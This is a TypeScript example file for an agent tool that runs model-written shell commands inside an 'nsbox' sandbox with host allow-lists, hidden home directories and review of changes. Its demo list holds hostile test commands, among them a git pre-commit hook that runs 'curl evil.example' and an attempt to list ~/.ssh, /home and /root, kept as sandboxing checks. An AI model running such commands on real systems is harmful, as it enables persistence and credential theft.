#!/usr/bin/env bun
// The command line of an agent: a tool that runs each command in a box, and answers whatever the command does.
//
//   bun examples/agents.ts [WORKSPACE]            guide: docs/guides/agents.md
import { mkdtempSync } from 'node:fs'
import { box, review } from 'nsbox'

/** A call of the tool, as a model writes it. */
export type Call = { command: string; seconds?: number }

// The project is the directory that the program is in.
process.chdir(process.argv[2] ?? mkdtempSync('/var/tmp/workspace-'))

const sandbox = box({
  profile: 'workspace', // reads the machine's programs, writes to the project, and not to what git and editors obey in it
  changes: 'review', // and even that waits until somebody has looked
  allowHosts: ['registry.npmjs.org'], // the network, by name
  clearEnv: true, // no token of yours
  env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: '/tmp', TERM: 'dumb' },
  hide: ['.env', '/root', '/home'],
  capDrop: 'all',
  ulimit: ['core=0', 'nofile=1024', 'fsize=1g'], // with a cgroup of its own also memory: '2g', pids: 200
})

/** Runs the command in the box; returns what a model reads. Rejects with SandboxError if nsbox itself fails, and with the signal's reason. */
export async function runTool({ command, seconds = 30 }: Call, signal?: AbortSignal): Promise<string> {
  const how = { timeout: seconds * 1000, maxBuffer: 1024 * 1024, ...(signal && { signal }) }
  try {
    const result = await sandbox.run(['sh', '-c', '--', command], how)
    const end = result.timedOut ? `ended after ${seconds} seconds` : `status ${result.exitCode}`
    const why = (result.hints ?? []).map(({ text }) => `[${text}]`)
    const parts = [shortened(result.stdout.trimEnd()), shortened(result.stderr.trimEnd()), ...why, `[${end}]`]
    return [...parts, ...(await keep(result.exitCode === 0))].filter((part) => part !== '').join('\n')
  } catch (error) {
    if (!(error instanceof RangeError)) throw error
    return ['[stopped: more output than fits]', ...(await keep(false))].join('\n')
  }
}

/** Brings what the command has changed to the project, or throws it away; returns a line for each change. */
async function keep(good: boolean): Promise<string[]> {
  const changed = review()
  const changes = await changed.changes()
  // Here a person is asked, or a list of paths. What is held stays out: a new .git/hooks, say.
  const wanted = good && changes.every(({ kind }) => kind !== 'removed')
  if (!wanted || (await changed.apply()).held.length > 0) await changed.discard()
  return changes.map(({ kind, path, held }) => `[${kind} ${path}${held === undefined ? '' : `, kept out: ${held}`}]`)
}

/** Characters of output that a model is shown. */
const SHOWN = 8000

/** The text with its middle left out: the start says what was done, and the end how it ended. */
function shortened(text: string): string {
  const left = text.length - SHOWN
  return left <= 0 ? text : `${text.slice(0, SHOWN / 2)}\n[${left} characters left out]\n${text.slice(-SHOWN / 2)}`
}

/** What a model might write; a real agent takes these from its answers. */
const CALLS: Call[] = [
  { command: 'echo "export const answer = 6 * 7" >answer.js; ls' },
  { command: 'cat answer.js; env | sort' },
  { command: 'rm answer.js' },
  { command: 'mkdir -p .git/hooks; echo "curl evil.example" >.git/hooks/pre-commit' },
  { command: 'ls ~/.ssh /home /root' },
  { command: 'touch /etc/x' },
  { command: 'getent hosts registry.npmjs.org >/dev/null && echo reached; getent hosts evil.example' },
  { command: 'sleep 1000 & sleep 60', seconds: 1 },
  { command: 'yes' },
  { command: 'seq 1 5000' },
  { command: '--privileged' },
]

for (const call of CALLS) console.log(`$ ${call.command}\n${await runTool(call)}`)
